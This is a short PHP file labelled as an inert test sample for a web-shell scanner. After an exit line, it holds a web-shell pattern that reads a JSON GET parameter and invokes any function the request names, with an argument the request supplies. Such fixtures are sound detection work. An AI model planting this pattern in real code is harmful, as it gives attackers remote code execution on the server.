<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$p = json_decode($_GET['p'], true);
$r = new ReflectionFunction($p['a']);
$r->invoke($p['b']);
